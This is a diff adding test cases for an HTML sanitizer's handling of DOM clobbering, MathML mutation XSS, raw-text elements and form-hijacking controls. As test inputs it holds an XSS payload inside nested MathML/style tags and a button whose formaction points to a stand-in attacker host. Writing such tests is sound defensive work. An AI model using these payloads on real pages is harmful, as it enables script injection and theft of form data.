@@ -49,7 +49,19 @@ describe('sanitizeNodes', () => {
     expect(out).not.toMatch(/onfocusin|javascript/);
   });
   it('drops id and name values that would shadow a property of document or window', () => {
-    expect(clean('<img name="createElement" alt=""><form name="querySelectorAll"></form><a id="location">x</a>')).toBe('<img alt=""><form></form><a>x</a>');
-    expect(clean('<form name="newsletter"></form><a id="card-1">x</a>')).toBe('<form name="newsletter"></form><a id="card-1">x</a>');
+    expect(clean('<img name="createElement" alt=""><input name="querySelectorAll"><a id="location">x</a>')).toBe('<img alt=""><input><a>x</a>');
+    expect(clean('<input name="newsletter"><a id="card-1">x</a>')).toBe('<input name="newsletter"><a id="card-1">x</a>');
+  });
+  it('leaves out what parses differently where the slot sits: forms, MathML, raw text, list items without a list', () => {
+    expect(clean('<form action="/x"><input name="q"></form><b>kept</b>')).toBe('<b>kept</b>');
+    expect(clean('<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math><b>kept</b>')).toBe('<b>kept</b>');
+    expect(clean('<style>*{}</style><xmp>a</xmp><noembed>b</noembed><noframes>c</noframes><b>kept</b>')).toBe('<b>kept</b>');
+    expect(clean('<li class="card">one</li><ul><li>own</li></ul>')).toBe('one<ul><li>own</li></ul>');
+  });
+  it("keeps a theme's controls from taking over a form around the slot", () => {
+    expect(clean('<button formaction="https://evil.example/" form="f">x</button><input type="submit"><input type="image" alt="y">')).toBe(
+      '<button type="button">x</button><input><input alt="y">',
+    );
+    expect(clean('<button type="button" class="add">x</button>')).toBe('<button type="button" class="add">x</button>');
   });
 });
